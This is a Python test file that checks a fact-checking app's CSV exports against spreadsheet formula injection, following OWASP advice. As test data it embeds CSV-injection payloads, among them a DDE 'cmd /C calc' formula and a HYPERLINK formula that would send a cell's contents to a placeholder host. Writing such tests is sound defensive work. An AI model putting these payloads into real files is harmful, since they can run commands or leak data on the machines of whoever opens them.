"""Safe exports (issue 17, row 6): no cell of the CSV export, served or frozen, starts a spreadsheet formula.

Following OWASP's advice on CSV injection, a text cell that starts with =, +, -, @, a tab or a carriage return
(after any spaces or line breaks) gets a single quote in front, and every text cell is quoted, so commas and
quotes inside a cell never start a new one."""
from __future__ import annotations

import csv
import io

import pytest

from checker.db import get_db
from checker.public import shapes
from checker.review import rules
from checker.review import store as review_store
from tests.support.app import make_test_app
from tests.support.articles import first_claim, load_article
from tests.support.review import add_reviewer, login, token_on

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PROBE_NOTE = '=HYPERLINK("http://x/?"&A2,"Click")'
HOSTILE_ARTICLE = ("date 2022-11-19 =cmd|' /C calc'!A0 Le ministre a déclaré que 40 drones ont été abattus samedi.\n\n"
                   "@SUM(1+1)*cmd|' /C calc'!A0 Selon l'OTAN, 70 missiles ont été interceptés ce jour-là.\n\n"
                   "+33 6 12 34 56 78 est le numéro donné par le ministère, qui a compté 90 frappes.\n\n"
                   "-2+3 : selon le Pentagone, 50 nations ont livré des défenses aériennes à l'Ukraine.\n")


def dangerous(cell: str) -> bool:
    return cell.startswith(TRIGGERS) or cell.lstrip(" \n\r\t").startswith(TRIGGERS)


def cells(text: str, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


@pytest.fixture
def app(tmp_path):
    app = make_test_app(tmp_path)
    reviewer = add_reviewer(app, "bob")
    article_id = load_article(app, HOSTILE_ARTICLE)
    claim = first_claim(app, article_id)
    client = app.test_client()
    login(client, "bob")
    response = client.post(f"/review/claims/{claim['id']}/status",
                           data={"status": "false", "note": PROBE_NOTE, "version": str(claim["version"]),
                                 "csrf_token": token_on(client, f"/review/claims/{claim['id']}")})
    assert response.status_code == 303
    with app.app_context():
        others = [c for c in review_store.review_queue(get_db(), {}, 50)[0] if c["id"] != claim["id"]]
        for other, note in zip(others, ["\t=1+1", "\r\n-1+1", "  @SUM(A1)", "+1"]):
            rules.change_status(get_db(), other["id"], rules.Change("disputed", note, other["version"]),
                                reviewer["id"], max_note_chars=10_000)
    app.config["probe_claim"] = claim["id"]
    return app


def test_the_probes_hyperlink_note_is_exported_as_text_not_a_formula(app):
    text = app.test_client().get("/export/claims.csv").get_data(as_text=True)
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    [probe] = [row for row in rows if int(row["claim_id"]) == app.config["probe_claim"]]
    assert probe["rationale"] == "'" + PROBE_NOTE


def test_no_cell_of_the_served_csv_starts_a_formula(app):
    text = app.test_client().get("/export/claims.csv").get_data(as_text=True)
    found = cells(text)
    assert any(cell.startswith("'=") for cell in found) and any(cell.startswith("'@") for cell in found)
    assert not [cell for cell in found if dangerous(cell)]


def test_no_cell_of_the_frozen_csv_starts_a_formula(app, tmp_path):
    outdir = tmp_path / "export"
    result = app.test_cli_runner().invoke(args=["freeze", str(outdir), "--base-url", "https://checks.example.org/"])
    assert result.exit_code == 0, result.output
    found = cells((outdir / "export" / "claims.csv").read_text(encoding="utf-8"))
    assert any(cell.startswith("'=") for cell in found)
    assert not [cell for cell in found if dangerous(cell)]


@pytest.mark.parametrize("column", ["article_title", "text", "rationale", "source_name", "kind"])
@pytest.mark.parametrize("value", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", " =1+1", "\n@x"])
def test_every_text_column_is_neutralised(column, value):
    row = {"id": 7, "article_id": 1, "article_title": "t", "article_published": None, "text": "x",
           "status": "false", "rationale": "r", "reviewed_at": None, "source_id": "s", "checkworthy": 1,
           "score": 0.5, "kind": "statistic", "version": 2, "updated_at": "2022-11-19"}
    names = {"source_name": value} if column == "source_name" else {}
    if column != "source_name":
        row[column] = value
    text = b"".join(shapes.csv_lines([row], lambda claim_id: f"https://x/claims/{claim_id}",
                                     lambda source_id: names.get("source_name", "S"))).decode()
    [_, exported] = list(csv.DictReader(io.StringIO(text, newline=""), fieldnames=shapes.CSV_COLUMNS))
    assert exported[column] == "'" + value
    assert exported["score"] == "0.5" and exported["claim_id"] == "7"


def test_plain_text_and_numbers_are_left_as_they_are():
    row = {"id": 7, "article_id": 1, "article_title": "Drones: 1 000, says the Post", "article_published": "2022-11",
           "text": "Moscou et Téhéran", "status": "false", "rationale": "a 'quoted' \"note\"", "reviewed_at": None,
           "source_id": "washington-post", "checkworthy": 1, "score": 0.25, "kind": "statistic", "version": 2,
           "updated_at": "2022-11-19"}
    text = b"".join(shapes.csv_lines([row], lambda claim_id: "https://x/", lambda source_id: "The Post")).decode()
    [header, line] = text.splitlines()
    exported = next(csv.DictReader(io.StringIO(text, newline="")))
    assert exported["article_title"] == row["article_title"] and exported["rationale"] == row["rationale"]
    assert ',0.25,' in line and line.startswith('7,1,"Drones: 1 000, says the Post"')


def test_text_cells_are_quoted_so_a_separator_inside_never_starts_a_cell():
    row = {"id": 7, "article_id": 1, "article_title": "a;b", "article_published": None, "text": "x,=1+1",
           "status": "false", "rationale": "", "reviewed_at": None, "source_id": None, "checkworthy": 0,
           "score": 0.0, "kind": None, "version": 1, "updated_at": None}
    text = b"".join(shapes.csv_lines([row], lambda claim_id: "https://x/", lambda source_id: None)).decode()
    line = text.splitlines()[1]
    assert '"a;b"' in line and '"x,=1+1"' in line
